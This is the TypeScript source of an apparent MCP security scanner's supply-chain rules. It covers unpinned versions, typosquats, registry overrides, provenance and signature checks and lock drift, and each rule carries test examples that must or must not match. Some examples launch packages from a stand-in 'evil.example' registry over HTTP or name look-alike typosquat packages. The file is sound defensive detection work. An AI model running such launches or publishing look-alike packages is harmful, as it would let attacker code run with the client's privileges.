// Supply-chain rule metadata, declared once (house style: zizmor). Ids are permanent: they key ignores,
// SARIF rules and docs pages (docs/rules/<id>.md). Each rule carries examples that must and must not
// match; test/supply/rules.test.ts runs every one of them through checkSupplyChain.
import type { RuleMeta } from '../findings/finding.js';

export interface SupplyRuleExample {
  /** The launch, as a client config would hold it. */
  command: string;
  args: string[];
  env?: Record<string, string>;
  /**
   * Package name → recorded packument under fixtures/registry/packuments/ (file stem) to answer
   * with; online examples need it (names not listed answer 404), offline ones leave it out.
   */
  registry?: Record<string, string>;
  /** Locked package source for drift examples: `name@version` (+ optional `#integrity`). */
  locked?: string;
  /** Evaluation time, ISO; defaults to a fixed date so examples do not age. */
  now?: string;
  note?: string;
}

export interface SupplyRule extends RuleMeta {
  /** Needs the registry (skipped offline). */
  online: boolean;
  examples: { match: SupplyRuleExample[]; noMatch: SupplyRuleExample[] };
}

const rule = (r: SupplyRule): SupplyRule => r;

export const UNPINNED_PACKAGE = rule({
  id: 'unpinned-package',
  category: 'supply-chain',
  title: 'Server package is not pinned to an exact version',
  severity: 'medium',
  confidence: 'high',
  online: false,
  description:
    'The launch command runs whatever version the registry serves at start-up (no version, a range, `latest` or another ' +
    'dist-tag, or a container tag without a digest). A compromised or hijacked release reaches the client on its next start.',
  tip: 'Pin an exact version (or an image digest) in the client config, and lock it with `mcp-guard lock`.',
  examples: {
    match: [
      { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/tmp'] },
      { command: 'npx', args: ['-y', 'some-server@latest'] },
      { command: 'npx', args: ['-y', '@scope/server@^1'], note: 'a range is pinned to nothing' },
      { command: 'uvx', args: ['mcp-server-fetch'] },
      { command: 'docker', args: ['run', '-i', '--rm', 'mcp/fetch:latest'] },
    ],
    noMatch: [
      { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2026.8.31', '/tmp'] },
      { command: 'uvx', args: ['mcp-server-time==0.6.2'] },
      { command: 'docker', args: ['run', '-i', `mcp/fetch@sha256:${'0'.repeat(64)}`] },
      { command: 'node', args: ['/srv/server/index.js'], note: 'local code has no registry version' },
    ],
  },
});

export const PACKAGE_TYPOSQUAT = rule({
  id: 'package-typosquat',
  category: 'supply-chain',
  title: 'Package name imitates a popular or official package',
  severity: 'high',
  confidence: 'medium',
  online: false,
  description:
    'The launched package name is a near miss of a popular npm or PyPI package or a known MCP server (a typo, a swapped or ' +
    'look-alike character, a changed delimiter, a look-alike of an official scope). Typosquats run attacker code with ' +
    'the client’s privileges.',
  tip: 'Check the package name character by character against the vendor’s documentation; use the official package.',
  examples: {
    match: [
      { command: 'npx', args: ['-y', '@modelcontextprotocol-server/filesystem'] },
      { command: 'npx', args: ['-y', 'modelcontextprotocol-server-filesystem'] },
      { command: 'npx', args: ['-y', '@anthropic/mcpb'] },
      { command: 'npx', args: ['-y', 'crossenv'] },
      { command: 'npx', args: ['-y', 'c0mmander@1.0.0'] },
      { command: 'uvx', args: ['mcp-sever-fetch==1.0.0'], note: 'PyPI: the reference fetch server, one letter off' },
    ],
    noMatch: [
      { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2026.8.31'] },
      { command: 'npx', args: ['-y', 'react-dnd@16.0.1'], note: 'popular in its own right, not a squat of react-dom' },
      { command: 'npx', args: ['-y', 'chai@5.0.0'] },
      { command: 'npx', args: ['-y', '@playwright/mcp@0.0.40'] },
      { command: 'uvx', args: ['mcp_server_fetch==2025.4.7'], note: 'PyPI treats _ and - alike: the same project' },
    ],
  },
});

export const NON_DEFAULT_REGISTRY = rule({
  id: 'non-default-registry',
  category: 'supply-chain',
  title: 'Launch fetches the package from a non-default registry',
  severity: 'high',
  confidence: 'medium',
  online: false,
  description:
    'The launch command or its environment points the package manager at another registry (`--registry`, ' +
    '`npm_config_registry`, `--index-url`, `UV_INDEX_URL`, …). Whoever runs that registry chooses the code that runs; ' +
    'over plain HTTP anyone on the network does.',
  tip: 'Remove the registry override, or make sure it is your organisation’s registry and uses HTTPS.',
  examples: {
    match: [
      { command: 'npx', args: ['-y', '--registry', 'http://evil.example', 'pkg@1.0.0'] },
      { command: 'npx', args: ['-y', 'pkg@1.0.0'], env: { npm_config_registry: 'https://npm.corp.example/' } },
      { command: 'uvx', args: ['--index-url', 'http://pypi.example/simple', 'pkg==1.0'] },
    ],
    noMatch: [
      { command: 'npx', args: ['-y', 'pkg@1.0.0', '--registry', 'http://x'], note: 'flags after the package are the server’s own' },
      { command: 'npx', args: ['-y', '--registry=https://registry.npmjs.org/', 'pkg@1.0.0'] },
    ],
  },
});

export const PACKAGE_NOT_FOUND = rule({
  id: 'package-not-found',
  category: 'supply-chain',
  title: 'Package or version does not exist on the registry',
  severity: 'high',
  confidence: 'high',
  online: true,
  description:
    'The registry has no such package (or no such version). The server cannot start as configured, and anyone can ' +
    'register the missing name and have this client run their code.',
  tip: 'Fix the package name or version; check the vendor’s documentation for the published name.',
  examples: {
    match: [{ command: 'npx', args: ['-y', 'mcp-guard-no-such-package-xyz@1.0.0'], registry: {} }, { command: 'npx', args: ['-y', '@playwright/cli@9.9.9'], registry: { '@playwright/cli': 'playwright__cli' } }],
    noMatch: [{ command: 'npx', args: ['-y', '@playwright/cli@0.1.1'], registry: { '@playwright/cli': 'playwright__cli' } }],
  },
});

export const PACKAGE_DEPRECATED = rule({
  id: 'package-deprecated',
  category: 'supply-chain',
  title: 'Package version is deprecated',
  severity: 'medium',
  confidence: 'high',
  online: true,
  description:
    'The publisher marked this version deprecated. Deprecation messages announce abandoned packages and, sometimes, ' +
    'compromised releases.',
  tip: 'Read the deprecation message and move to the version or package it names.',
  examples: {
    match: [{ command: 'npx', args: ['-y', 'request@2.88.2'], registry: { request: 'request.deprecated' } }],
    noMatch: [{ command: 'npx', args: ['-y', 'request@2.88.2'], registry: { request: 'request' } }],
  },
});

export const PACKAGE_INSTALL_SCRIPTS = rule({
  id: 'package-install-scripts',
  category: 'supply-chain',
  title: 'Package runs install scripts',
  severity: 'medium',
  confidence: 'high',
  online: true,
  description:
    'The package declares `preinstall`, `install` or `postinstall` scripts (or a native build). `npx` runs them on ' +
    'every fresh install, before the server itself starts, outside anything the MCP client can see.',
  tip: 'Review what the install script does; prefer a release without one, or install it once under review.',
  examples: {
    match: [{ command: 'npx', args: ['-y', 'esbuild@0.28.2'], registry: { esbuild: 'esbuild' } }],
    noMatch: [{ command: 'npx', args: ['-y', '@playwright/cli@0.1.1'], registry: { '@playwright/cli': 'playwright__cli' } }],
  },
});

export const REGISTRY_SIGNATURE_INVALID = rule({
  id: 'registry-signature-invalid',
  category: 'supply-chain',
  title: 'Registry signature does not verify',
  severity: 'critical',
  confidence: 'high',
  online: true,
  description:
    'The npm registry signs `name@version:integrity` for every package it serves. This signature does not verify ' +
    'against the registry’s published keys, so the package metadata was altered after publication or came from ' +
    'somewhere else.',
  tip: 'Do not run this package. Check for a proxy or mirror rewriting registry responses.',
  examples: {
    match: [{ command: 'npx', args: ['-y', '@anthropic-ai/claude-code@2.1.98'], registry: { '@anthropic-ai/claude-code': 'anthropic-ai__claude-code.tampered-signature' } }],
    noMatch: [{ command: 'npx', args: ['-y', '@anthropic-ai/claude-code@2.1.98'], registry: { '@anthropic-ai/claude-code': 'anthropic-ai__claude-code' } }],
  },
});

export const PROVENANCE_MISSING = rule({
  id: 'provenance-missing',
  category: 'supply-chain',
  title: 'Package has no provenance attestation',
  severity: 'low',
  confidence: 'high',
  online: true,
  description:
    'The registry holds no Sigstore provenance for this version, so nothing links the code you run to a source ' +
    'repository and build. Most packages still lack it; it matters most for servers with broad permissions.',
  tip: 'Ask the publisher to publish with provenance (`npm publish --provenance` from CI).',
  examples: {
    match: [{ command: 'npx', args: ['-y', '@sethwebster/ava-commit@0.0.10'], registry: { '@sethwebster/ava-commit': 'sethwebster__ava-commit' }, now: '2023-09-01T00:00:00Z' }],
    noMatch: [{ command: 'npx', args: ['-y', '@playwright/cli@0.1.1'], registry: { '@playwright/cli': 'playwright__cli' } }],
  },
});

export const PROVENANCE_INVALID = rule({
  id: 'provenance-invalid',
  category: 'supply-chain',
  title: 'Provenance attestation does not verify',
  severity: 'critical',
  confidence: 'high',
  online: true,
  description:
    'The registry serves a provenance attestation for this version, but its Sigstore signature, certificate chain, ' +
    'transparency-log proof or subject (package name, version, digest) does not check out.',
  tip: 'Do not run this package; report it to the publisher and the registry.',
  examples: {
    match: [{ command: 'npx', args: ['-y', '@playwrite/cli@0.1.1'], registry: { '@playwrite/cli': 'playwright__cli.other-package' } }],
    noMatch: [{ command: 'npx', args: ['-y', '@playwright/cli@0.1.1'], registry: { '@playwright/cli': 'playwright__cli' } }],
  },
});

export const PROVENANCE_REPOSITORY_MISMATCH = rule({
  id: 'provenance-repository-mismatch',
  category: 'supply-chain',
  title: 'Provenance names a different source repository',
  severity: 'high',
  confidence: 'high',
  online: true,
  description:
    'The verified provenance says the package was built from one repository while the package claims another in ' +
    'its `repository` field, the pattern of a package impersonating a project it was not built from.',
  tip: 'Compare both repositories; use the package published by the project you meant to run.',
  examples: {
    match: [{ command: 'npx', args: ['-y', '@playwright/cli@0.1.1'], registry: { '@playwright/cli': 'playwright__cli.other-repository' } }],
    noMatch: [{ command: 'npx', args: ['-y', '@playwright/cli@0.1.1'], registry: { '@playwright/cli': 'playwright__cli' } }],
  },
});

export const PACKAGE_VERY_NEW = rule({
  id: 'package-very-new',
  category: 'supply-chain',
  title: 'Package or version was published very recently',
  severity: 'medium',
  confidence: 'medium',
  online: true,
  description:
    'The package first appeared, or this version was published, only days ago. Malicious releases are usually ' +
    'caught and removed within days; brand-new names are where typosquats live.',
  tip: 'Wait a few days before adopting a new release, or review its contents first.',
  examples: {
    match: [{ command: 'npx', args: ['-y', '@sethwebster/ava-commit@0.0.10'], registry: { '@sethwebster/ava-commit': 'sethwebster__ava-commit' }, now: '2023-08-03T00:00:00Z' }],
    noMatch: [{ command: 'npx', args: ['-y', '@sethwebster/ava-commit@0.0.10'], registry: { '@sethwebster/ava-commit': 'sethwebster__ava-commit' }, now: '2024-08-03T00:00:00Z' }],
  },
});

export const PACKAGE_VERSION_DRIFT = rule({
  id: 'package-version-drift',
  category: 'supply-chain',
  title: 'Launch would run a different package version than the lock',
  severity: 'high',
  confidence: 'high',
  online: true,
  description:
    'mcp.lock pins this server’s package to one version (and integrity), but the launch command would now resolve to ' +
    'another, or the registry now serves different contents for the locked version. The reviewed code is not what runs.',
  tip: 'Pin the locked version in the client config, or review the new version and re-lock with `mcp-guard lock --server NAME`.',
  examples: {
    match: [
      { command: 'npx', args: ['-y', '@playwright/cli'], registry: { '@playwright/cli': 'playwright__cli' }, locked: '@playwright/cli@0.1.1' },
      {
        command: 'npx',
        args: ['-y', '@playwright/cli@0.1.1'],
        registry: { '@playwright/cli': 'playwright__cli' },
        locked: '@playwright/cli@0.1.1#sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==',
        note: 'same version, different contents',
      },
    ],
    noMatch: [{ command: 'npx', args: ['-y', '@playwright/cli@0.1.1'], registry: { '@playwright/cli': 'playwright__cli' }, locked: '@playwright/cli@0.1.1' }],
  },
});

export const SUPPLY_RULES: readonly SupplyRule[] = [
  UNPINNED_PACKAGE,
  PACKAGE_TYPOSQUAT,
  NON_DEFAULT_REGISTRY,
  PACKAGE_NOT_FOUND,
  PACKAGE_DEPRECATED,
  PACKAGE_INSTALL_SCRIPTS,
  REGISTRY_SIGNATURE_INVALID,
  PROVENANCE_MISSING,
  PROVENANCE_INVALID,
  PROVENANCE_REPOSITORY_MISMATCH,
  PACKAGE_VERY_NEW,
  PACKAGE_VERSION_DRIFT,
];

/** Metadata of every supply-chain rule (plain RuleMeta, without examples). */
export function supplyRuleMetas(): RuleMeta[] {
  return SUPPLY_RULES.map(({ online: _online, examples: _examples, ...meta }) => meta);
}
